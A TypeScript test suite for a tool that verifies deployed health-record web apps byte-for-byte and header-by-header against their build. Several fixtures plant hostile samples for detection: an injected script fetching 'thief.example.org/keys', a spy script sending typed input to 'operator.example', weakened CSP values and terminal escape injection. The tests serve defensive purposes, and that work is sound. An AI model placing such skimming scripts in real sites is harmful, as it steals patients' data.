import { execFile } from "node:child_process"
import { appendFileSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs"
import { createServer } from "node:http"
import { tmpdir } from "node:os"
import path from "node:path"
import { promisify } from "node:util"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { buildApps } from "../../apps/build.ts"
import { type BuiltFiles, filesBelow, readBuiltFiles } from "../../apps/built-files.ts"
import { type AppName, cacheControl, contentSecurityPolicy, contentType, fixedHeaders } from "../../apps/policy.ts"
import { appAt, compareSite } from "../../bin/verify-apps/compare-site.ts"
import { namesIn } from "../../bin/verify-apps/names.ts"
import { reportLines } from "../../bin/verify-apps/report.ts"
import { type Answer, type Site, siteAddress, siteAt } from "../../bin/verify-apps/site.ts"
import { type AppServer, serveApp } from "../../local/app-server.ts"
import { canonicalHash } from "../../protocol/crypto/canonical.ts"
import { plainPolicy } from "../kit/trust-policy.ts"

const bytes = (text: string) => new TextEncoder().encode(text)
const origin = "https://ehr.example.org"
const page = '<script type="module" src="/assets/index-1.js"></script>'
const entry = 'import "./state-2.js"; Route({ path: "/sign-up" }); Route({ path: `/record/open` })'
const built: BuiltFiles = new Map(
  Object.entries({
    "/assets/index-1.js": entry,
    "/assets/state-2.js": "export const state = {}",
    "/icon.svg": "<svg/>",
    "/index.html": page,
    "/worker.js": 'const files = ["/assets/index-1.js"]',
  }).map(([file, text]) => [file, bytes(text)]),
)
const told = { cloud: "https://cloud.example.org", hri: "https://index.example.org/" }
const connect = ["https://cloud.example.org", "https://records.example.org", "https://index.example.org"]

type Honest = (path: string) => Answer
type Alter = (path: string, honest: Honest) => Answer | undefined

/** An app's site as `apps/policy.ts` says it is served, but for what `alter` answers otherwise. */
const site = (alter: Alter = () => undefined, { files = built, sources = connect } = {}): Site => {
  const bodies = new Map([
    ...files,
    ["/config.json", bytes(JSON.stringify(told))],
    ["/trust-policy.json", bytes(JSON.stringify(plainPolicy))],
  ])
  const honest: Honest = (asked) => {
    const file = asked.includes(".") ? asked : "/index.html"
    const body = bodies.get(file)
    const headers = new Headers({
      ...fixedHeaders,
      "content-security-policy": contentSecurityPolicy(sources),
      "strict-transport-security": "max-age=63072000; includeSubDomains; preload",
      "content-type": contentType(file),
      "cache-control": cacheControl(file),
      "x-amz-cf-id": "of CloudFront",
    })
    return { outcome: "answered", status: body === undefined ? 403 : 200, headers, body: body ?? bytes("") }
  }
  return { origin, local: false, ask: async (asked) => alter(asked, honest) ?? honest(asked) }
}

const serving =
  (texts: Record<string, string>): Alter =>
  (asked, honest) => {
    const text = texts[asked]
    const answer = honest(asked)
    return text === undefined || answer.outcome !== "answered"
      ? undefined
      : { ...answer, status: 200, body: bytes(text) }
  }

const withHeader =
  (name: string, value: string | undefined, of: (asked: string) => boolean = () => true): Alter =>
  (asked, honest) => {
    const answer = honest(asked)
    if (answer.outcome !== "answered" || !of(asked)) return undefined
    const headers = new Headers(answer.headers)
    if (value === undefined) headers.delete(name)
    else headers.set(name, value)
    return { ...answer, headers }
  }

const differences = async (served: Site, app: AppName = "ehr") => (await compareSite(served, app, built)).differences

describe("a deployed app held against a build", () => {
  test("is identical where every file, screen and header is, and says what it was told apart from that", async () => {
    expect(await compareSite(site(), "ehr", built)).toEqual({
      app: "ehr",
      files: 5,
      // The beginning, two that the scripts name, and one by chance.
      paths: 4,
      differences: [],
      told,
      trust: { hash: await canonicalHash(plainPolicy), anchors: ["de-hba"] },
      connect,
    })
  })

  test("differs by one byte, and the file and the byte are named", async () => {
    const altered = serving({ "/assets/state-2.js": "export const state = []" })
    expect(await differences(site(altered))).toEqual([
      { path: "/assets/state-2.js", what: "differs from byte 21 on: 23 bytes are served, 23 were built" },
    ])
  })

  test("differs where a byte comes after the end", async () => {
    const altered = serving({ "/icon.svg": "<svg/>\n" })
    expect(await differences(site(altered))).toEqual([
      { path: "/icon.svg", what: "differs from byte 6 on: 7 bytes are served, 6 were built" },
    ])
  })

  test.each([...built.keys()])("misses %s where the site doesn't give it", async (file) => {
    const missing: Alter = (asked, honest) => {
      const answer = honest(asked)
      return asked === file && answer.outcome === "answered" ? { ...answer, status: 404 } : undefined
    }
    expect(await differences(site(missing))).toEqual([{ path: file, what: "is missing: the site answers with 404" }])
    const silent: Alter = (asked) => (asked === file ? { outcome: "failed", why: "timeout" } : undefined)
    expect(await differences(site(silent))).toEqual([{ path: file, what: "is missing: timeout" }])
  })

  test.each(["/", "/index.html", "/sign-up", "/record/open", "/worker.js"])(
    "may not lead %s elsewhere",
    async (led) => {
      const to = "https://other.example.org/"
      expect(await differences(site((asked) => (asked === led ? { outcome: "redirected", to } : undefined)))).toEqual([
        { path: led, what: `is redirected to ${to}` },
      ])
    },
  )

  test.each(["/", "/sign-up", "/record/open"])("shows its page at %s, too", async (screen) => {
    const [difference, ...others] = await differences(site(serving({ [screen]: `${page}<p>` })))
    expect(difference).toMatchObject({ path: screen, what: expect.stringMatching(/^differs from byte 56 /) })
    expect(others).toEqual([])
  })

  test("shows its page at a path that nobody could prepare", async () => {
    const known = ["/", "/sign-up", "/record/open"]
    const other: Alter = (asked, honest) =>
      asked.includes(".") || known.includes(asked) ? undefined : serving({ [asked]: "a page" })(asked, honest)
    expect(await differences(site(other))).toHaveLength(1)
  })
})

describe("the headers of a deployed app", () => {
  const policy = contentSecurityPolicy(connect)

  test.each([
    ["script-src 'self' 'wasm-unsafe-eval'", "script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline'", /script-src is/],
    ["; require-trusted-types-for 'script'", "", /require-trusted-types-for is absent/],
    ["default-src 'none'", "default-src *", /default-src is "\*", built "'none'"/],
    ["base-uri 'none'", "base-uri 'none'; report-uri https://reports.example.org", /report-uri is/],
    ["default-src 'none'; ", "default-src 'none';  ", /written otherwise/],
  ])("differ where the policy has not %s but %s", async (from, to, says) => {
    expect(policy).toContain(from)
    const altered = withHeader("content-security-policy", policy.replace(from, to), (asked) => asked === "/worker.js")
    expect(await differences(site(altered))).toEqual([{ path: "/worker.js", what: expect.stringMatching(says) }])
  })

  test("differ where a file comes without the policy", async () => {
    const altered = withHeader("content-security-policy", undefined, (asked) => asked === "/index.html")
    expect(await differences(site(altered))).toEqual([
      { path: "/index.html", what: "content-security-policy is missing" },
      { path: "/", what: expect.stringMatching(/not the same for all files/) },
    ])
  })

  test.each([...Object.keys(fixedHeaders), "content-type", "cache-control", "strict-transport-security"])(
    "differ where %s is missing",
    async (name) => {
      const altered = withHeader(name, undefined, (asked) => asked === "/")
      expect(await differences(site(altered))).toEqual([
        { path: "/", what: expect.stringContaining(`${name} is missing`) },
      ])
    },
  )

  test.each([
    ["content-type", "text/plain"],
    ["x-frame-options", "SAMEORIGIN"],
    ["strict-transport-security", "max-age=60"],
  ])("differ where %s is %s", async (name, value) => {
    expect(await differences(site(withHeader(name, value, (asked) => asked === "/icon.svg")))).toEqual([
      { path: "/icon.svg", what: expect.stringContaining(name) },
    ])
  })

  test.each([
    "clear-site-data",
    "refresh",
    "link",
    "service-worker-allowed",
    "set-cookie",
    "content-security-policy-report-only",
  ])("differ where %s is sent, which the build's are not", async (name) => {
    expect(await differences(site(withHeader(name, "x", (asked) => asked === "/config.json")))).toEqual([
      { path: "/config.json", what: `${name} is extra: "x"` },
    ])
  })

  test("may let the professional's app call any https address, and the patient's only those named one by one", async () => {
    const everywhere = site(undefined, { sources: ["https:"] })
    expect(await differences(everywhere, "hcp")).toEqual([])
    expect(await differences(everywhere, "ehr")).toHaveLength(1)
  })

  test.each([
    "*",
    "http:",
    "http://cloud.example.org",
    "https://*.example.org",
    "http://127.0.0.1:*",
    "data:",
    "wss://example.org",
  ])("may let neither app call %s", async (source) => {
    for (const app of ["ehr", "hcp"] as const)
      expect(await differences(site(undefined, { sources: [source] }), app)).toEqual([
        { path: "/", what: expect.stringContaining(`connect-src has ${source}`) },
      ])
  })

  test("let one file call no more than another", async () => {
    const more = contentSecurityPolicy([...connect, "https://other.example.org"])
    const altered = withHeader("content-security-policy", more, (asked) => asked === "/record/open")
    const comparison = await compareSite(site(altered), "ehr", built)
    expect(comparison.connect).toContain("https://other.example.org")
    expect(comparison.differences).toEqual([{ path: "/", what: expect.stringMatching(/not the same for all files/) }])
  })
})

describe("what a deployed app is told", () => {
  test.each([
    ["nothing", "", /not JSON/],
    ["more than two addresses", JSON.stringify({ ...told, script: "/evil.js" }), /other things/],
    ["a cloud without https", JSON.stringify({ ...told, cloud: "http://cloud.example.org" }), /not https/],
    ["a cloud on the patient's own machine", JSON.stringify({ ...told, cloud: "http://127.0.0.1:1" }), /not https/],
  ])("is refused where it is %s", async (_, text, says) => {
    expect(await differences(site(serving({ "/config.json": text })))).toEqual([
      { path: "/config.json", what: expect.stringMatching(says) },
    ])
  })

  test("is shown, whatever cloud it is", async () => {
    const other = { ...told, cloud: "https://other.example.org" }
    const { told: shown, differences: none } = await compareSite(
      site(serving({ "/config.json": JSON.stringify(other) })),
      "ehr",
      built,
    )
    expect(shown).toEqual(other)
    expect(none).toEqual([])
  })
})

describe("whom a deployed app takes for a professional", () => {
  test("is shown, by the hash that audit events have of a trust policy", async () => {
    const comparison = await compareSite(site(), "ehr", built)
    expect(comparison.trust).toEqual({ hash: await canonicalHash(plainPolicy), anchors: ["de-hba"] })
    expect(reportLines(origin, comparison).join("\n")).toContain(
      `de-hba by the trust policy ${await canonicalHash(plainPolicy)}`,
    )
  })

  test.each([
    ["nothing", "", /not JSON/],
    ["anchors without rules", JSON.stringify({ version: 1, anchors: [{ id: "de-hba" }] }), /not a trust policy/],
  ])("is refused where it is %s", async (_, text, says) => {
    expect(await differences(site(serving({ "/trust-policy.json": text })))).toEqual([
      { path: "/trust-policy.json", what: expect.stringMatching(says) },
    ])
  })
})

describe("files that the build hasn't", () => {
  test("are followed from an altered page to the last that they name", async () => {
    const injected = serving({
      "/index.html": `${page}<script src="/assets/evil.js?1"></script>`,
      "/assets/evil.js": 'import "./worse.js"; fetch("https://thief.example.org/keys")',
      "/assets/worse.js": "0",
    })
    expect((await differences(site(injected))).map(({ path: at }) => at)).toEqual([
      "/index.html",
      "/assets/evil.js",
      "/assets/worse.js",
      "https://thief.example.org/keys",
    ])
  })

  test("are named where the service worker takes them in", async () => {
    const injected = serving({
      "/worker.js": 'importScripts("//cdn.example.org/x.js", "helper.js")',
      "/helper.js": "0",
    })
    expect((await differences(site(injected))).map(({ path: at }) => at)).toEqual([
      "/worker.js",
      "https://cdn.example.org/x.js",
      "/helper.js",
    ])
  })

  test("end, however many there are", async () => {
    const endless: Alter = (asked, honest) => {
      const next = Number(/evil-(\d+)/.exec(asked)?.[1] ?? 0) + 1
      const evil = asked.startsWith("/evil-") || asked === "/index.html"
      return evil ? serving({ [asked]: `<script src="/evil-${next}.js">` })(asked, honest) : undefined
    }
    const found = await differences(site(endless))
    expect(found.length).toBeGreaterThan(100)
    expect(found.at(-1)).toMatchObject({ what: "names more that is extra" })
  })

  test("are what a text may make a browser fetch, not every word of it", () => {
    const text = 'a.json();b="./x.js#1";c=`assets/y.css`;url(/z.png) "https://e.example/q" "text/html" http: "no name"'
    expect([...namesIn(text, "https://a.example/assets/f.js")].sort()).toEqual([
      "https://a.example/a.json",
      "https://a.example/assets/a.json",
      "https://a.example/assets/assets/y.css",
      "https://a.example/assets/x.js",
      "https://a.example/assets/y.css",
      "https://a.example/x.js",
      "https://a.example/z.png",
      "https://e.example/q",
    ])
  })
})

describe("the app that a site is", () => {
  const other: BuiltFiles = new Map([...built].map(([file, text]) => [file.replace("-", "-hcp-"), text]))
  const builds = new Map<AppName, BuiltFiles>([
    ["ehr", built],
    ["hcp", other],
  ])

  test("is known by its files, also where the page and the worker are altered", async () => {
    const altered = serving({ "/index.html": "another", "/worker.js": "another" })
    expect(await appAt(site(altered), builds)).toBe("ehr")
    expect(await appAt(site(altered, { files: other }), builds)).toBe("hcp")
  })

  test("can't be known where nobody answers", async () => {
    await expect(
      appAt(
        site(() => ({ outcome: "failed", why: "refused" })),
        builds,
      ),
    ).rejects.toThrow(`${origin}: refused`)
  })
})

test.each([
  "http://ehr.example.org",
  "ftp://127.0.0.1",
  "ehr.example.org",
  "https://a@ehr.example.org",
  `${origin}/record`,
  `${origin}/?x`,
])("the apps at %s are not verified", (address) => {
  expect(() => siteAddress(address)).toThrow(address)
})

test("https is verified, and http on this machine alone", () => {
  for (const address of [
    origin,
    "https://10.0.0.1:8443",
    "http://127.0.0.1:8000",
    "http://localhost:1",
    "http://[::1]:1",
  ])
    expect(siteAddress(address).origin).toBe(address)
})

test("a site is asked once for a path, followed nowhere and read to no end", async () => {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? "")
    if (request.url === "/led") response.writeHead(302, { location: "/elsewhere" }).end()
    else if (request.url === "/long") {
      const pour = () => {
        while (!response.destroyed && response.write(Buffer.alloc(1 << 20)));
      }
      response.on("drain", pour)
      pour()
    } else response.end("here")
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const { port } = server.address() as { port: number }
  const real = siteAt(new URL(`http://127.0.0.1:${port}`))
  expect(await real.ask("/led")).toEqual({ outcome: "redirected", to: "/elsewhere" })
  expect(await real.ask("/long")).toMatchObject({ outcome: "failed", why: expect.stringMatching(/more than/) })
  expect(await real.ask("/here")).toMatchObject({ outcome: "answered", status: 200, body: Buffer.from("here") })
  await real.ask("/here")
  expect(asked).toEqual(["/led", "/long", "/here"])
  server.closeAllConnections()
  server.close()
})

describe("an operator who serves the apps", () => {
  const directory = mkdtempSync(path.join(tmpdir(), "ehr-cloud-operator-"))
  const address = "http://127.0.0.1:4566"
  const local = { clouds: [{ address }], hri: address, trustPolicy: plainPolicy, engine: { endpoint: address } }
  let servers: AppServer[] = []
  let honest: BuiltFiles = new Map()
  beforeAll(async () => {
    await buildApps(directory)
    honest = readBuiltFiles(path.join(directory, "ehr"))
    servers = await Promise.all(
      (["ehr", "hcp"] as const).map((app) =>
        serveApp(app, {
          directory: path.join(directory, app),
          local: local as unknown as Parameters<typeof serveApp>[1]["local"],
        }),
      ),
    )
  }, 120_000)
  afterAll(async () => {
    for (const server of servers) await server.stop()
    rmSync(directory, { recursive: true })
  })
  const sites = () => servers.map((server) => server.address)
  const verify = (...args: string[]) =>
    promisify(execFile)(process.execPath, ["bin/verify-apps.ts", ...args]).then(
      ({ stdout }) => ({ code: 0, stdout }),
      ({ code, stdout }: { code: number; stdout: string }) => ({ code, stdout }),
    )
  /** What the command says of the patient's app, without another build. */
  const report = async () => {
    const url = new URL(sites()[0] ?? "")
    return reportLines(url.origin, await compareSite(siteAt(url), "ehr", honest)).join("\n")
  }
  const bundle = (app: AppName) => {
    const isBundle = (file: string) => file.startsWith("/assets/index-") && file.endsWith(".js")
    const file = filesBelow(path.join(directory, app)).find(isBundle) ?? ""
    return { file, at: path.join(directory, app, file) }
  }

  test("is believed as long as both are identical to the checkout's build", async () => {
    const { code, stdout } = await verify(...sites())
    expect(stdout.match(/^(app|IDENTICAL|DIFFERENT|cloud) .*$/gm)).toEqual([
      expect.stringMatching(/ ehr$/),
      expect.stringMatching(` ${address}$`),
      expect.stringMatching(/^IDENTICAL \d+ files, the page at \d+ paths/),
      expect.stringMatching(/ hcp$/),
      expect.stringMatching(` ${address}$`),
      expect.stringMatching(/^IDENTICAL \d+ files, the page at \d+ paths/),
    ])
    expect(code).toBe(0)
  })

  test("is caught by one byte of one file, which is named", async () => {
    const { file, at } = bundle("hcp")
    const whole = readFileSync(at)
    writeFileSync(at, whole.with(7, (whole[7] ?? 0) ^ 1))
    const { code, stdout } = await verify(...sites())
    writeFileSync(at, whole)
    expect(stdout).toContain(`  ${file}: differs from byte 7 on`)
    expect(stdout).toMatch(/IDENTICAL[^]*DIFFERENT from the build in one place:/)
    expect(code).toBe(1)
  })

  test("is caught with a script that reads what is typed and sends it away", async () => {
    const { file, at } = bundle("ehr")
    const whole = readFileSync(at)
    appendFileSync(at, ';import("./spy.js")')
    const spy = path.join(directory, "ehr/assets/spy.js")
    writeFileSync(spy, 'addEventListener("input", ({ target }) => fetch("https://operator.example/" + target.value))')
    const said = await report()
    writeFileSync(at, whole)
    rmSync(spy)
    for (const named of [`${file}: differs`, "/assets/spy.js: is extra", "https://operator.example/: is extra"])
      expect(said).toContain(named)
  })

  test("is caught where files are missing, and each of them is named", async () => {
    const files = filesBelow(path.join(directory, "ehr")).filter((file) => file.startsWith("/assets/"))
    renameSync(path.join(directory, "ehr/assets"), path.join(directory, "away"))
    const said = await report()
    renameSync(path.join(directory, "away"), path.join(directory, "ehr/assets"))
    expect(files.length).toBeGreaterThan(20)
    expect(said).toContain(`DIFFERENT from the build in ${files.length} places:\n  ${files.join(", ")}: is missing`)
  })

  test("is not believed over an open network, nor where nobody answers", async () => {
    expect(await verify("http://ehr.example.org")).toEqual({ code: 2, stdout: "" })
    expect(await verify()).toEqual({ code: 2, stdout: "" })
    await expect(appAt(siteAt(new URL("http://127.0.0.1:1")), new Map([["ehr", honest]]))).rejects.toThrow(
      /127.0.0.1:1/,
    )
  })
})

test("a header that is wrong of everything is said once, and nothing that a site says drives a terminal", async () => {
  const comparison = await compareSite(site(withHeader("x-frame-options", "\u001b[2J\u001b]0;x")), "ehr", built)
  const lines = reportLines(origin, comparison)
  expect(lines.at(-1)).toBe('  everything: x-frame-options is " [2J ]0;x", built "DENY"')
  expect(lines).toHaveLength(8)
})
